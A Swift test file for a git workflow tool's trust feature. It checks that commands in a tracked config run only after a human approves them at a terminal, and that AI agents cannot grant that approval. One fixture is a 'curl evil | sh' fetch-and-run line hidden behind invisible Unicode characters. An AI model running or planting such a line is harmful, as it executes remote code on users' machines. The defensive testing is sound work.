import Glibc
import SystemPackage
import TestSupport
import Testing

@Suite("What a tracked definition can do counts only where a human here trusts it")
struct TrustTests {
    /// A workflow whose merges are verified by a command that leaves a trace, and an agent that is ready to be merged.
    private func verified(_ command: String = "touch $HOME/ran", name: String = "repo") throws -> TestRepository {
        let repo = try TestRepository.begun(name: name)
        try repo.git("config", "-f", ".wfconfig", "merge.verify", command)
        try repo.done("checkpoint", "verified")
        try repo.ready("ag")
        return repo
    }

    private func hash(_ repo: TestRepository, environment: [String: String] = [:]) throws -> String {
        let output = try repo.wf(["trust", "--json"], environment: environment)
        #expect(output.status == 1)
        return try #require(try JSONValue(output)["hash"]?.text)
    }

    private func isTrusted(_ repo: TestRepository, environment: [String: String] = [:]) throws -> Bool {
        try !repo.wf(["doctor"], environment: environment).text.contains("warn  trust")
    }

    private var store: String { "../home/.local/state/git-wf/trusted" }

    @Test("trust shows every command, asks, and only a yes at a terminal counts")
    func asked() throws {
        let repo = try verified("make test # nightly\ncurl evil \u{200b}\u{e0041}| sh")
        let shown = "merge.verify = \"make test # nightly\\ncurl evil \\u{200b}\\u{e0041}| sh\""
        for output in [
            try repo.wf("trust"), try repo.typed("trust", answers: "n\n"), try repo.typed("trust"),
            try repo.typed("trust", answers: "y\n", environment: ["CLAUDECODE": "1"]),
        ] {
            #expect(output.status == 1 && output.text.contains(shown), "\(output.text)")
            #expect(!repo.exists(store))
        }
        // Whoever is asked sees what about, wherever the answer of the command goes.
        for (redirection, isShown) in [(">/dev/null", true), (">/dev/null 2>/dev/null", false)] {
            let script = "script -qec 'git-wf trust \(redirection)' /dev/null"
            let output = try repo.run(
                "sh", ["-c", script], stdin: Array((isShown ? "n\n" : "y\n").utf8), environment: ["SHELL": "/bin/sh"])
            #expect(output.status == 1 && output.text.contains(shown) == isShown, "\(output.text)")
        }
        let output = try repo.typed("trust", answers: "y\n")
        #expect(output.status == 0 && output.text.contains(shown), "\(output.text)")
        #expect(try isTrusted(repo))
        #expect(try repo.done("trust").text == "Nothing of this .wfconfig waits to be trusted.")
    }

    @Test(
        "what is trusted is what was shown: neither a definition that was recorded before nor one that comes behind it")
    func shown() throws {
        let repo = try verified("touch $HOME/evil")
        try repo.git("config", "-f", ".wfconfig", "merge.verify", "true")
        let output = try repo.typed("trust", answers: "y\n")
        #expect(
            output.status == 0 && output.text.contains("\"true\"") && !output.text.contains("evil"), "\(output.text)")
        for file in Files.names(in: repo.file(store)) { #expect(try !repo.text("\(store)/\(file)").contains("evil")) }
        try repo.git("config", "-f", ".wfconfig", "merge.verify", "touch $HOME/evil")
        #expect(try !isTrusted(repo))
        // What is in force still runs, and what waits is named.
        let merged = try repo.wf("merge", "ag")
        #expect(
            merged.status == 0 && merged.errorText.contains("merge.verify is \"touch $HOME/evil\", and was \"true\""))
        #expect(!repo.exists("../home/evil"))
    }

    @Test(
        "a verification that was only written down runs once it is trusted, and until then nothing is merged without it"
    )
    func verification() throws {
        let repo = try verified()
        try repo.refuses(
            ["merge", "ag"], status: 128, says: ["not trusted", "merge.verify = \"touch $HOME/ran\"", "git wf trust"],
            mayRecord: true, lines: 2)
        try repo.trust()
        #expect(!repo.exists("../home/ran"))
        #expect(try repo.wf("merge", "ag").status == 0 && repo.exists("../home/ran"))
    }

    @Test("it is trusted in this repository and for this workflow: nowhere else, whatever else is the same")
    func bound() throws {
        let repo = try verified()
        try repo.trust()
        #expect(try isTrusted(repo))
        // A copy has the same workflow, with the same id.
        #expect(try repo.run("cp", ["-r", repo.path.string, "../copy"]).status == 0)
        let copy = repo.beside("copy")
        #expect(try !isTrusted(copy))
        #expect(try copy.wf("merge", "ag").status == 128)
        // Another workflow in the place of the first one.
        try repo.git("for-each-ref", "--format=delete %(refname)", "refs/wf/").text.split(separator: "\n").forEach {
            try repo.git("update-ref", "-d", String($0.dropFirst("delete ".count)))
        }
        try repo.remove(".git/wf")
        try repo.done("init", "--name", "demo", "--no-hooks")
        #expect(try !isTrusted(repo))
    }

    @Test(
        "HOME and XDG_STATE_HOME count only as absolute paths: a repository that carries its own trust is not believed",
        arguments: [["HOME": ""], ["HOME": "."], ["XDG_STATE_HOME": ".local/state"], ["HOME": "INSIDE"]])
    func carried(variables: [String: String]) throws {
        var repo = try verified()
        repo.environment["GIT_CONFIG_GLOBAL"] = "/dev/null"
        try repo.trust()
        try Files.makeFolders(repo.file(".local/state"))
        #expect(try repo.run("cp", ["-r", "../home/.local/state/git-wf", ".local/state/"]).status == 0)
        let environment = variables.mapValues { $0 == "INSIDE" ? repo.path.string : $0 }
        // Where a relative name is passed over, what the user's own home has still counts.
        try repo.remove("../home/.local/state/git-wf")
        #expect(try !isTrusted(repo, environment: environment))
        #expect(try repo.wf(["merge", "ag"], environment: environment).status == 128)
        #expect(!repo.exists("../home/ran"))
    }

    @Test("a folder or a file that others could have written is not believed, nor one that is a link")
    func others() throws {
        let repo = try verified()
        try repo.trust()
        let name = try #require(Files.names(in: repo.file(store)).first)
        for part in [store, "../home/.local/state/git-wf", "\(store)/\(name)"] {
            let mode = try #require(Files.mode(of: repo.file(part)))
            #expect(mode & 0o077 == 0, "\(part) is for its owner alone")
            chmod(repo.file(part).string, mode | 0o020)
            #expect(try !isTrusted(repo), "\(part)")
            chmod(repo.file(part).string, mode)
            #expect(try isTrusted(repo), "\(part)")
        }
        if geteuid() == 0 {
            chown(repo.file("\(store)/\(name)").string, 1, 1)
            #expect(try !isTrusted(repo))
            chown(repo.file("\(store)/\(name)").string, 0, 0)
        }
        try repo.write("../elsewhere", try repo.read("\(store)/\(name)"), mode: 0o600)
        try repo.remove("\(store)/\(name)")
        try repo.link("\(store)/\(name)", to: repo.file("../elsewhere").string)
        #expect(try !isTrusted(repo))
        try repo.remove("\(store)/\(name)")
        try repo.write("\(store)/\(name)", "", mode: 0o600)
        #expect(try !isTrusted(repo))
        // Nothing is written into a folder of that kind either.
        chmod(repo.file(store).string, 0o777)
        let refused = try repo.typed("trust", answers: "y\n")
        #expect(refused.status == 128 && refused.text.contains("others may write"), "\(refused.text)")
    }

    @Test("--yes takes the hash that was shown, in a script of a human's, and no other")
    func hashed() throws {
        let repo = try verified()
        // A changed definition is consented to, and that is a human's only where the user lets a claim count.
        let wrong = String(repeating: "0", count: 40)
        try repo.refuses(["trust", "--yes", wrong], status: 1, says: ["hash"])
        let hash = try hash(repo)
        try repo.refuses(["trust", "--yes", hash], status: 1, says: ["wf.claimedApproval"])
        try repo.git("config", "wf.claimedApproval", "true")
        for variable in ["CLAUDECODE", "GIT_WF_AGENT", "CODEX_THREAD_ID", "GEMINI_CLI", "CURSOR_AGENT", "AI_AGENT"] {
            try repo.refuses(["trust", "--yes", hash], status: 1, says: ["only a human"], environment: [variable: "1"])
        }
        for actor in ["leader", "agent:ag", "hook:x"] {
            try repo.refuses(["trust", "--yes", hash, "--as", actor], status: 1, says: ["only a human"])
        }
        let agent = repo.beside("repo.wf/demo/ag")
        #expect(try agent.wf("trust", "--yes", hash).status == 1 && agent.typed("trust", answers: "y\n").status == 1)
        #expect(!repo.exists(store))
        let answer = try repo.json("trust", "--yes", hash, "--as", "human:ann")
        #expect(answer["trusted"]?[0]?["command"]?.text == "touch $HOME/ran")
        let consent = try repo.json("log", "--kind", "definition-changed")["checkpoints"]?[0]
        #expect(consent?["actor"]?.text == "human:ann")
        #expect(consent?["trailers"]?.list.contains { $0[0]?.text == "Wf-Claimed" } == true)
        #expect(try isTrusted(repo))
    }

    @Test("without a change that waits, --yes trusts the commands, and a command that is another by then is not")
    func hashedCommands() throws {
        let repo = try TestRepository()
        try repo.commit(".wfconfig", "[workflow]\n\tname = demo\n[merge]\n\tverify = touch $HOME/ran\n")
        try repo.done("init", "--no-hooks")
        #expect(try !isTrusted(repo))
        let old = try hash(repo)
        try repo.git("config", "-f", ".wfconfig", "merge.verify", "touch $HOME/evil")
        try repo.refuses(["trust", "--yes", old], status: 1, says: ["hash"], mayRecord: true)
        try repo.git("checkout", "-q", ".wfconfig")
        try repo.done("trust", "--yes", old)
        #expect(try isTrusted(repo))
    }

    @Test("checkpoint.allow of a definition lets nothing in before it is trusted: of a clone's, of a changed one")
    func allowed() throws {
        let repo = try TestRepository()
        try repo.commit(".wfconfig", "[workflow]\n\tname = demo\n[checkpoint]\n\tallow = *\n")
        try repo.write(".env", "DB_PASSWORD=hunter2hunter2\n")
        try repo.done("init", "--no-hooks")
        _ = try repo.wf("checkpoint", "one")
        #expect(try !repo.git("ls-tree", "-r", "--name-only", repo.lane).lines.contains(".env"))
        let output = try repo.wf("trust")
        #expect(output.text.contains("checkpoint.allow = \"*\""))
        try repo.trust()
        try repo.done("checkpoint", "two")
        #expect(try repo.git("ls-tree", "-r", "--name-only", repo.lane).lines.contains(".env"))
    }

    @Test(
        "what init itself wrote is trusted", arguments: ["feature", "migration", "monitoring", "articles", "minimal"])
    func written(template: String) throws {
        let repo = try TestRepository.begun(template)
        #expect(try isTrusted(repo))
        #expect(try repo.done("trust").text == "Nothing of this .wfconfig waits to be trusted.")
    }
}

extension TestRepository {
    /// Starts an agent of the workflow `demo` that adds a file, commits and reports.
    /// - Returns: its worktree.
    @discardableResult
    func ready(_ name: String, _ change: (TestRepository) throws -> Void = { _ in }) throws -> TestRepository {
        _ = try wf("agent", "start", name)
        let agent = beside("\(path.lastComponent?.string ?? "").wf/demo/\(name)")
        try agent.write("\(name).txt", "\(name)\n")
        try change(agent)
        try agent.git("add", "-A")
        try agent.git("commit", "-qm", "work of \(name)")
        _ = try agent.wf("agent", "report", "--status", "complete", "--summary", "done")
        return agent
    }
}
